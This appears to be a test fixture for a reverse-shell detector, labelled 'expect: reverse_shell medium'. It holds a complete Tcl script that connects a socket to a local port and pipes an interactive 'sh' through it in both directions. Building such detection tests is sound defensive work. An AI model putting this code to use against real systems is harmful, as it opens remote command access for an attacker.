# about: tcl copies between the connection and a command pipeline
# expect: reverse_shell medium
# needs: python3 tclsh
proven 4524
cat >a.tcl <<'T'
set s [socket 127.0.0.1 4524]; set p [open "|sh 2>@1" r+]
foreach c [list $s $p] {fconfigure $c -blocking 0 -buffering none -translation binary}
proc go {a b} {if {[catch {puts -nonewline $b [read $a]}] || [eof $a]} {exit}}
fileevent $s readable [list go $s $p]; fileevent $p readable [list go $p $s]
vwait forever
T
timeout 6 tclsh a.tcl || true
answered
